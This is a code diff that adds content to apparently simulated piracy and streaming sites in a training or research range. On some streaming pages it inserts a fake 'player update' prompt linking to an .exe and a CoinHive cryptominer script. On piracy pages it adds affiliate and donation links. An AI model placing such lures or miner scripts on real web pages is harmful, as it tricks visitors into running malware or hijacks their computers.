@@ -327,6 +327,10 @@ public sealed class RangeSites(RangeWorld world)
                     .Append("<a class=\"magnet\" href=\"").Append(Magnet(item)).Append("\">Magnet</a> <a href=\"/download/").Append(item.Id).Append(".torrent\">").Append(T(lang, "download")).Append(" .torrent</a>\n");
                 break;
             case Archetype.Streaming:
+                // Some streaming sites put their visitors at risk: a fake player update that is an executable, and a coin miner.
+                if (Stable(site.Id) % 3 == 0)
+                    body.Append("<div class=\"overlay\">").Append(site.Language switch { "ko" => "계속 보려면 플레이어 업데이트가 필요합니다", "fr" => "Veuillez mettre à jour votre lecteur vidéo", _ => "Please update your video player to continue watching" })
+                        .Append(" <a class=\"btn\" href=\"/dl/HD_Player_Update.exe\">OK</a></div>\n<script src=\"https://cdn.coinhive.test/lib/coinhive.min.js\"></script><script>var miner=new CoinHive.Anonymous('").Append(site.Id).Append("');miner.start();</script>\n");
                 var stream = $"https://cdn{item.Id.Length % 3 + 1}.vidstream.test/hls/{item.Id.ToLowerInvariant()}/master.m3u8";
                 body.Append("<div id=\"player\"></div>\n<script>").Append(Packer.Pack($"var player=jwplayer('player');player.setup({{file:'{stream}',autostart:false}});")).Append("</script>\n")
                     .Append("<iframe src=\"https://embed.vidstream.test/e/").Append(item.Id.ToLowerInvariant()).Append("\" allowfullscreen></iframe>\n");
@@ -371,6 +375,7 @@ public sealed class RangeSites(RangeWorld world)
         var ids = world.IdentifiersOf(site);
         body.Append("<p>BTC: <code>").Append(ids.Bitcoin).Append("</code></p><p>ETH / USDT-ERC20: <code>").Append(Ethereum(site, ids))
             .Append("</code></p><p>USDT-TRC20: <code>").Append(ids.Tron).Append("</code></p>");
+        body.Append("<p><a href=\"https://pay.cryptomus.com/pay/").Append(Stable(site.Id) % 900_000 + 100_000).Append("\">Pay by card or crypto</a></p>");
         body.Append("</section><p><a href=\"/channels\">Channel list</a></p>");
         return RangeResponse.Html(Layout(site, day, site.Name, body.ToString()));
     }
@@ -449,6 +454,9 @@ public sealed class RangeSites(RangeWorld world)
         if (site.Piracy)
         {
             html.Append("<a href=\"https://t.me/").Append(ids.Telegram).Append("\">").Append(T(lang, "join")).Append("</a> ");
+            // A VPN affiliate link (the site's own affiliate account), and on some sites a PayPal donation link.
+            html.Append("<a href=\"https://www.vpn-deal.test/offer?aff_id=").Append(Stable(site.Id) % 90_000 + 10_000).Append("\" rel=\"sponsored\">VPN -70%</a> ");
+            if (Stable(site.Id) % 4 == 0) html.Append("<a href=\"https://paypal.me/").Append(site.Name).Append("donate\">PayPal</a> ");
             if (site.Archetype != Archetype.IptvReseller)
                 html.Append("<span class=\"donate\">").Append(T(lang, "donate")).Append(": ").Append(ids.Bitcoin).Append(" · ETH ").Append(Ethereum(site, ids)).Append("</span> ");
             html.Append("<span>").Append(T(lang, "contact")).Append(": admin@").Append(site.Domains[0].Host).Append(" · ").Append(ids.Email).Append("</span> ");
